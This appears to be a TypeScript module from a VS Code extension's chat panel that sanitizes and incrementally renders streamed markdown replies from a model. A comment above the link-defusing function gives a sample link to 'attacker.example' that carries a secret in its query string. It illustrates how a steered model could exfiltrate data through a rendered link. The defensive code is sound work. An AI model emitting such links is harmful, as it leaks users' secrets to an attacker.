// Markdown to safe DOM. Replies are untrusted text: marked renders, DOMPurify strips anything executable.
//
// Streaming renders incrementally: the reply is split into top-level blocks; a block followed by another is finished
// and its DOM is never touched again; only the last, growing block is re-rendered. So a long answer costs about one
// full render in total, not one per frame, and finished blocks do not flicker or jump. A long finished answer (a
// restored chat) renders in slices of a few blocks, its end first, because that is what the restored chat shows.
import * as l10n from '@vscode/l10n';
import DOMPurify from 'dompurify';
import { Lexer, Parser, type Token, type TokensList } from 'marked';
import { markdownPieces } from './markdownPieces';
import { SliceQueue } from './slices';

const PURIFY_CONFIG = { FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea'], FORBID_ATTR: ['style'] };

/** Renders complete markdown to sanitized HTML. */
export function renderMarkdownHtml(markdown: string): string {
  const template = document.createElement('template');
  template.content.append(tokensToFragment(Lexer.lex(markdown, { gfm: true })));
  return template.innerHTML;
}

/** Sanitized DOM straight from DOMPurify: parsing the HTML once, not again through innerHTML. (Parsing into one
 *  reused inert document and cleaning it in place halves a streaming redraw's cost, but made restoring 10,000 entries
 *  four times slower and worse than linear in headless Chromium; not used.) */
function tokensToFragment(tokens: Token[]): DocumentFragment {
  const list = Object.assign(tokens, { links: {} }) as TokensList;
  return defuseLinks(DOMPurify.sanitize(Parser.parse(list, { gfm: true }), { ...PURIFY_CONFIG, RETURN_DOM_FRAGMENT: true }));
}

/** The schemes a click may open, and only through the host (vscode.env.openExternal, which asks the user). */
const OPENABLE = new Set(['http:', 'https:', 'mailto:']);

/** The URL a rendered link opens, or undefined for a link that is only text. Read by the click handler. */
export function linkTarget(element: Element): string | undefined {
  return element.closest<HTMLElement>('a[data-href]')?.dataset.href;
}

/**
 * An answer is untrusted: a steered model can write `[docs](https://attacker.example/?q=SECRET)`. So no link keeps
 * an `href` (a click makes the webview fetch nothing and navigate nowhere), http(s) and mailto keep their target in
 * `data-href` for the host to open, other schemes become their text, and an image that is not inline data shows its
 * alt text and URL as text (the CSP would block it anyway).
 */
function defuseLinks(fragment: DocumentFragment): DocumentFragment {
  for (const link of Array.from(fragment.querySelectorAll('a'))) {
    const href = link.getAttribute('href') ?? '';
    link.removeAttribute('href');
    link.removeAttribute('target');
    const url = parseUrl(href);
    if (!url || !OPENABLE.has(url.protocol)) {
      link.replaceWith(...Array.from(link.childNodes));
      continue;
    }
    link.dataset.href = url.href;
    link.title = url.href;
    link.setAttribute('role', 'link');
    link.tabIndex = 0;
  }
  for (const image of Array.from(fragment.querySelectorAll('img'))) {
    const src = image.getAttribute('src') ?? '';
    if (/^data:image\//i.test(src)) continue;
    const text = document.createElement('span');
    text.className = 'blocked-image';
    text.textContent = l10n.t('[image: {0}] {1}', image.getAttribute('alt') || l10n.t('no description'), src);
    image.replaceWith(text);
  }
  return fragment;
}

/** Clicks (and Enter) on links in `container` go to `open`, never to the webview's own navigation. */
export function listenForLinks(container: HTMLElement, open: (url: string) => void): void {
  const follow = (event: Event) => {
    if (!(event.target instanceof HTMLElement) || !event.target.closest('a')) return;
    event.preventDefault();
    const url = linkTarget(event.target);
    if (url) open(url);
  };
  container.addEventListener('click', follow);
  container.addEventListener('keydown', event => {
    if (event.key === 'Enter') follow(event);
  });
}

function parseUrl(href: string): URL | undefined {
  try {
    return href.trim() ? new URL(href.trim()) : undefined;
  } catch {
    return undefined;
  }
}

/** Called for every block element once it is in the DOM (code block actions, highlighting); `inSlice`: drawn in a
 *  slice of its own, after the update or restore that brought it. */
export type BlockDecorator = (block: HTMLElement, finished: boolean, inSlice?: boolean) => void;

/** A finished answer longer than this renders in slices of about SLICE_CHARS each. */
const SLICED_FROM_CHARS = 8_000;
const SLICE_CHARS = 4_000;

export class StreamingMarkdown {
  private rendered = '';
  private committed = 0;
  private readonly tail: HTMLElement;
  private readonly slices = new SliceQueue();
  /** A finished answer is still drawing in slices: they set the committed text an update builds on. */
  private drawingFinished = false;
  /** Blocks committed by the last update, not yet `finished` (content-visibility, see chat.css): kept out of it until
   *  they have been drawn once, so the redraw that commits them lays them out at their real height, not the estimate,
   *  and a chat that follows the answer reaches its end in that same frame. */
  private settling: HTMLElement[] = [];

  constructor(private readonly container: HTMLElement, private readonly decorate: BlockDecorator = () => undefined) {
    this.tail = this.newBlock();
  }

  get isEmpty(): boolean {
    return this.rendered === '';
  }

  /** Shows a finished answer (restoring a chat): a short one at once, a long one in slices, its end first. */
  showFinished(text: string): void {
    const markdown = text.replace(/\r\n?/g, '\n');
    if (markdown === this.rendered) return;
    this.reset();
    this.rendered = markdown;
    if (markdown.length <= SLICED_FROM_CHARS) {
      this.tail.replaceChildren(tokensToFragment(Lexer.lex(markdown, { gfm: true })));
      this.decorate(this.tail, true);
      return;
    }
    this.drawingFinished = true;
    const pieces = markdownPieces(markdown, SLICE_CHARS);
    if (pieces && pieces.length > 1) this.showInPieces(pieces);
    // Lexing a long answer is itself most of a task's budget (about 25 ms for 100 KB, cold): it is the first slice.
    else this.slices.run([() => this.showLongFinished(markdown)], 0);
  }

  /** Each piece lexed and rendered in a slice of its own, the end first; the last piece is the tail, as if streamed. */
  private showInPieces(pieces: string[]): void {
    const last = pieces[pieces.length - 1];
    this.committed = this.rendered.length - last.length;
    let next = this.tail;
    this.slices.run([
      () => {
        this.tail.replaceChildren(tokensToFragment(Lexer.lex(last, { gfm: true })));
        this.decorate(this.tail, true);
      },
      ...pieces.slice(0, -1).reverse().map(piece => () => (next = this.finishedBlockAbove(next, Lexer.lex(piece, { gfm: true })))),
    ], 1);
  }

  private showLongFinished(markdown: string): void {
    const tokens = Lexer.lex(markdown, { gfm: true });
    const groups = groupTokens(tokens, SLICE_CHARS);
    const finishedRaw = groups.slice(0, -1).flat().map(token => token.raw).join('');
    // As when streaming, blocks are committed only when their tokens account for the text exactly.
    if (groups.length < 2 || !markdown.startsWith(finishedRaw)) {
      this.slices.add([() => {
        this.tail.replaceChildren(tokensToFragment(tokens));
        this.decorate(this.tail, true);
      }]);
      return;
    }
    // The last group is the tail, as if it had streamed; the groups before it become finished blocks, end first.
    this.committed = finishedRaw.length;
    let next = this.tail;
    this.slices.add([
      () => {
        this.tail.replaceChildren(tokensToFragment(groups[groups.length - 1]));
        this.decorate(this.tail, true);
      },
      ...groups.slice(0, -1).reverse().map(group => () => (next = this.finishedBlockAbove(next, group))),
    ]);
  }

  /** A finished block of `tokens` put just above `next` (slices draw a long answer end-first); returns it. */
  private finishedBlockAbove(next: HTMLElement, tokens: Token[]): HTMLElement {
    const block = this.newBlock();
    block.classList.add('finished');
    block.append(tokensToFragment(tokens));
    this.container.insertBefore(block, next);
    this.decorate(block, true);
    return block;
  }

  /** Shows `markdown`, which usually extends what was shown before. */
  update(text: string): void {
    // Rare (an answer shown finished, then changed): what an update builds on must be drawn first.
    if (this.drawingFinished) this.slices.flush();
    this.drawingFinished = false;
    for (const block of this.settling) block.classList.add('finished');
    this.settling = [];
    // Per frame this must cost the size of the growing block, not of the answer: no whole-text copies or compares.
    const markdown = text.includes('\r') ? text.replace(/\r\n?/g, '\n') : text;
    if (markdown.length === this.rendered.length && markdown === this.rendered) return;
    // Streaming only appends; a text that does not continue what was committed (checked near the seam) starts over.
    const seam = Math.max(0, this.committed - 64);
    if (markdown.length < this.committed || !markdown.startsWith(this.rendered.slice(seam, this.committed), seam)) this.reset();
    this.rendered = markdown;
    const tokens = Lexer.lex(markdown.slice(this.committed), { gfm: true });
    // Everything before the last block is finished: a later delta can only extend the last one.
    let last = tokens.length - 1;
    while (last > 0 && tokens[last].type === 'space') last--;
    // A list followed by a block still on its first line may yet absorb it ("2" becoming "2. item" of a loose
    // list): keep the list open too. After a blank line, nothing else can join the block before it.
    const previous = tokens.slice(0, last).findLast(token => token.type !== 'space');
    if (last > 0 && previous?.type === 'list' && !tokens[last].raw.includes('\n')) {
      last--;
      while (last > 0 && tokens[last].type === 'space') last--;
    }
    const finished = tokens.slice(0, Math.max(last, 0));
    const finishedRaw = finished.map(token => token.raw).join('');
    // Commit only when the tokens account for the text exactly; otherwise keep re-rendering the whole tail.
    if (finished.length && markdown.startsWith(finishedRaw, this.committed)) {
      this.commit(finished, finishedRaw.length);
      this.committed += finishedRaw.length;
      this.tail.replaceChildren(tokensToFragment(tokens.slice(last)));
    } else {
      this.tail.replaceChildren(tokensToFragment(tokens));
    }
    this.decorate(this.tail, false);
  }

  /** Finished blocks go above the tail: now, or in slices after those still to come when much arrived at once (a
   *  stream that came faster than the panel drew it). The tail shows the newest text meanwhile. */
  private commit(finished: Token[], chars: number): void {
    const groups = chars > SLICED_FROM_CHARS ? groupTokens(finished, SLICE_CHARS) : [finished];
    const sliced = groups.length > 1 || this.slices.hasPending;
    const blocks = groups.map(group => () => {
      const block = this.newBlock();
      // Drawn in later slices, they take their estimate at once (the chat follows them: `inSlice`); drawn now, they
      // settle first. The blocks of an answer's last update stay out of content-visibility (a few).
      if (sliced) block.classList.add('finished');
      else this.settling.push(block);
      block.append(tokensToFragment(group));
      this.container.insertBefore(block, this.tail);
      this.decorate(block, true, sliced);
    });
    if (sliced) this.slices.add(blocks);
    else blocks[0]();
  }

  /** The reply ended: the last block is finished too (after the blocks above it still to come, if any). */
  finish(): void {
    const decorateTail = () => this.decorate(this.tail, true);
    if (this.slices.hasPending) this.slices.add([decorateTail]);
    else decorateTail();
  }

  private reset(): void {
    this.slices.cancel();
    this.settling = [];
    this.drawingFinished = false;
    for (const child of Array.from(this.container.children)) if (child !== this.tail) child.remove();
    this.committed = 0;
    this.rendered = '';
  }

  private newBlock(): HTMLElement {
    const block = document.createElement('div');
    block.className = 'md-block';
    if (this.tail) return block;
    this.container.append(block);
    return block;
  }
}

/** Consecutive tokens in groups of at least `chars` of source each (a single larger token is a group of its own). */
function groupTokens(tokens: Token[], chars: number): Token[][] {
  const groups: Token[][] = [];
  let group: Token[] = [];
  let size = 0;
  for (const token of tokens) {
    group.push(token);
    size += token.raw.length;
    if (size >= chars) {
      groups.push(group);
      group = [];
      size = 0;
    }
  }
  if (group.length) groups.push(group);
  return groups;
}
